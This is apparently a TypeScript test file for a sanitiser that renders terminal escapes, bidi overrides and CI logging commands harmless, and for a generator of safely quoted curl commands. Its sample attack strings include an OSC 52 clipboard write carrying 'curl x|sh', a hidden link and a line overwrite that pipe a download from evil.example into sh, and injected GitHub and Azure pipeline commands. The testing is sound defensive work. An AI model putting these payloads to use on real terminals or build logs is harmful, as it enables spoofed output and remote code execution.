import { execFileSync } from 'node:child_process';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { toCurl } from '../src/transport/curl.js';
import type { RequestTemplate } from '../src/transport/request.js';
import { terminalSafe } from '../src/text/terminal-safe.js';

/** Anything a terminal or a CI runner would act on. */
const ACTIVE = new RegExp(
  [
    '[\\u0000-\\u0008\\u000a-\\u001f\\u007f-\\u009f]',
    '[\\u061c\\u200e\\u200f\\u2028\\u2029\\u202a-\\u202e\\u2066-\\u2069]',
    '##(?:vso)?\\[',
  ].join('|'),
  'i',
);

const ATTACKS = [
  ['OSC 52 (writes the clipboard)', '\u001b]52;c;aWQ7Y3VybCB4fHNo\u0007'],
  ['OSC 8 (a hidden link)', '\u001b]8;;https://evil.example/\u001b\\click\u001b]8;;\u001b\\'],
  ['a screen clear', '\u001b[2J\u001b[H'],
  ['a C1 CSI', '\u009b31m'],
  ['a bidi override', 'gnp.\u202eexe'],
  ['a GitHub workflow command on a line of its own', 'ok\r\n::warning title=pwned::owned'],
  ['an Azure logging command', 'x ##vso[task.setvariable variable=x]y'],
  ['a line overwriting ours', 'ok\r    curl: curl https://evil.example/x | sh'],
] as const;

describe('terminalSafe', () => {
  it.each(ATTACKS)('shows %s as visible escapes', (_, attack) => {
    const shown = terminalSafe(`before ${attack} after`);
    expect(shown).not.toMatch(ACTIVE);
    expect(shown.startsWith('before ')).toBe(true);
  });

  it('names the escapes a reader recognises', () => {
    expect(terminalSafe('a\u001b[31mb\r\nc\u202ed\u0085')).toBe('a\\x1b[31mb\\r\\nc\\u202ed\\x85');
    expect(terminalSafe('lone \ud800 high, pair 😀')).toBe('lone \\ud800 high, pair 😀');
  });

  it('leaves tabs, ordinary text and other scripts alone', () => {
    const text = 'msg\t"未找到任何商品" — café, 😀, # heading, a#b';
    expect(terminalSafe(text)).toBe(text);
  });

  it('leaves nothing active in any text, fuzzed', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (text) => {
        expect(terminalSafe(text)).not.toMatch(ACTIVE);
      }),
    );
  });
});

const template = (value: string): RequestTemplate => ({
  api: 'analytics',
  operationId: 'listWebsites',
  method: 'GET',
  baseUrl: 'http://127.0.0.1:1',
  path: '/api/v1/websites',
  query: [['search', value]],
  headers: [],
  label: 'search',
});

/** What bash makes of a quoted word, as bytes. */
const bashWord = (word: string): Buffer => execFileSync('bash', ['-c', `printf %s ${word}`]);

describe('a curl of a request holding a deployment value', () => {
  it.each(ATTACKS)("quotes %s with $'…' so the line is inert and the value exact", (_, attack) => {
    const curl = toCurl(template(attack));
    expect(curl).not.toMatch(ACTIVE);
    const word = /--data-urlencode (\$'(?:[^'\\]|\\.)*')/.exec(curl)?.[1];
    expect(word).toBeDefined();
    expect(bashWord(word!).toString('utf8')).toBe(`search=${attack}`);
  });

  it('reproduces any value exactly, fuzzed', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'grapheme', maxLength: 12 }), (value) => {
        const curl = toCurl(template(value));
        expect(curl).not.toMatch(ACTIVE);
        const word = curl.split(' --data-urlencode ')[1]!.split(` 'http://`)[0]!;
        expect(bashWord(word).toString('utf8')).toBe(`search=${value}`);
      }),
      { numRuns: 40 },
    );
  });

  it('writes a lone surrogate as U+FFFD, as the request carried it', () => {
    expect(toCurl(template('a\ud800b'))).toContain(`'search=a\ufffdb'`);
    expect(() => toCurl({ ...template('x\udfff'), method: 'POST', form: [['f', '\ud800']] })).not.toThrow();
  });
});
